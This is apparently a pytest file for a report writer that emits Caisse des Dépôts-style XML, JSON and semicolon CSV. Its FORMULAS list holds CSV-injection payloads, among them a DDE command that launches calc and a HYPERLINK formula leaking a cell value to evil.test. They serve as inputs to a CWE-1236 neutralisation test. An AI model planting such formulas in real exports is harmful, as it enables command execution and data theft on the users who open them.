"""Reports: the form of the Caisse des Dépôts, JSON, and a table in which nothing is a formula."""

import csv
import io
import json
import xml.etree.ElementTree as ElementTree

import pytest

from issuer.intake.report import Treatment, neutral, outcome_of, writing
from issuer.intake.rows import Finding, Place, Reading, Row

FLUX = Treatment("resultats <1>.xml", "essai & 1", "900001")


def _kept(reference):
    place = Place("f.xml", 2, None, reference)
    return Reading(Row(place, reference, "diploma", {}), (Finding("row.birth_partial", place, "warning"),))


def _refused(reference, line=12, field="sexe"):
    place = Place("f.xml", line, field, reference)
    return Reading(None, (Finding("row.name_blank", place), Finding("row.age_unlikely", place, "warning")))


READINGS = [_kept("A-1"), _refused("B<2>"), _kept("C&3"), _refused(None)]


def written(form, readings=READINGS, lang="fr"):
    output = io.StringIO(newline="")
    with writing(form, output, FLUX, lang) as report:
        for reading in readings:
            report.add(outcome_of(reading))
    return output.getvalue()


def test_the_report_has_the_form_of_the_caisse_des_depots(fixtures):
    """Same elements, same order, same namespace as the sample of the kit's report."""

    def shape(element):
        return element.tag, [shape(child) for child in element]

    sample = ElementTree.parse(fixtures / "data" / "accrochage" / "own" / "rapport_traitement.xml").getroot()
    ours = ElementTree.fromstring(written("xml", [_kept("A"), _refused("B"), _kept("C")]))
    assert shape(ours) == shape(sample)


def test_the_report_in_xml():
    root = ElementTree.fromstring(written("xml"))
    assert root.tag == "{urn:cdc:cpf:pc5:rapport:schema}rapport"
    assert [root.findtext(name) for name in ("nomFichier", "idFlux", "idTraitement")] == [
        "resultats <1>.xml", "essai & 1", "900001",
    ]  # fmt: skip
    assert [element.text for element in root.iterfind("PassagesOK/idTechnique")] == ["A-1", "C&3"]
    assert [element.findtext("idTechnique") for element in root.iterfind("PassagesKO/passage")] == [
        "B<2>",
        "",
    ]
    message = root.findtext("PassagesKO/passage/messageErreur")
    assert message.startswith("Ligne 12, champ «\u00a0sexe\u00a0»\u00a0: Le nom est vide.")
    assert "10 ans" not in message, "only errors are reasons for a refusal"


def test_the_report_in_xml_holds_no_character_that_xml_forbids():
    place = Place("f.xml", 1, "x\x00y\ud7ff", "A\x1b\u202e")
    text = written("xml", [Reading(None, (Finding("row.nir", place),))])
    ElementTree.fromstring(text)


def test_the_report_in_json():
    report = json.loads(written("json", lang="en"))
    assert (report["file"], report["flux"], report["treatment"]) == (
        "resultats <1>.xml",
        "essai & 1",
        "900001",
    )
    assert (report["accepted"], report["refused"]) == (2, 2)
    assert [row["reference"] for row in report["rows"]] == ["A-1", "B<2>", "C&3", None]
    assert report["rows"][1]["findings"][0] == {
        "code": "row.name_blank",
        "severity": "error",
        "line": 12,
        "field": "sexe",
        "what": "The family name is blank.",
        "nextStep": "Give the name at birth, or else the name in use.",
    }
    assert report["rows"][0]["findings"][0]["severity"] == "warning"


@pytest.mark.parametrize("form", ["xml", "json", "csv"])
def test_a_report_on_nothing_is_whole(form):
    text = written(form, [])
    if form == "xml":
        assert ElementTree.fromstring(text).find("PassagesOK") is not None
    elif form == "json":
        assert json.loads(text)["rows"] == []
    else:
        assert len(text.splitlines()) == 1


def test_the_report_as_a_table():
    rows = list(csv.reader(io.StringIO(written("csv")), delimiter=";"))
    assert rows[0] == ["reference", "ligne", "champ", "gravite", "code", "constat", "que_faire", "cellule"]
    assert rows[2][:5] == ["B<2>", "12", "sexe", "error", "row.name_blank"]
    assert {len(row) for row in rows} == {8}


FORMULAS = ["=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1",
            '=HYPERLINK("http://evil.test?"&A1,"x")', "＝1+1", "\ufeff=1+1", '"=1+1"', " =1", "'=1",
            "%0A=1"]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_report_becomes_a_formula(formula):
    """What a certifier's file calls a row comes back to a spreadsheet: CWE-1236."""
    text = written("csv", [_refused(formula, field=formula)])
    cells = next(row for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") if row[1] == "12")
    for cell in (cells[0], cells[2]):
        assert cell.startswith("'")
        assert cell[1:] == formula, "taking the apostrophe off gives the value back"


@pytest.mark.parametrize("text", ["", "A-1", "D'ARGENT", "RNCP37674", "12", "12.5", "2026-03-27", "a=b"])
def test_ordinary_cells_are_left_alone(text):
    assert neutral(text) == text


def test_what_is_about_the_whole_file_is_no_outcome():
    assert outcome_of(Reading(None, (Finding("csv.encoding_assumed", Place("f.csv"), "warning"),))) is None


def test_a_report_on_a_file_from_its_readings(files):
    path = files.flux(
        files.passage(), files.passage(idTechnique="<idTechnique>B</idTechnique>", scoring=None)
    )
    root = ElementTree.fromstring(written("xml", files.read(path)))
    assert root.findtext("PassagesOK/idTechnique") == "ESSAI-1"
    assert root.findtext("PassagesKO/passage/idTechnique") == "B"
    assert "« scoring »".replace(" ", "\u00a0") in root.findtext("PassagesKO/passage/messageErreur")
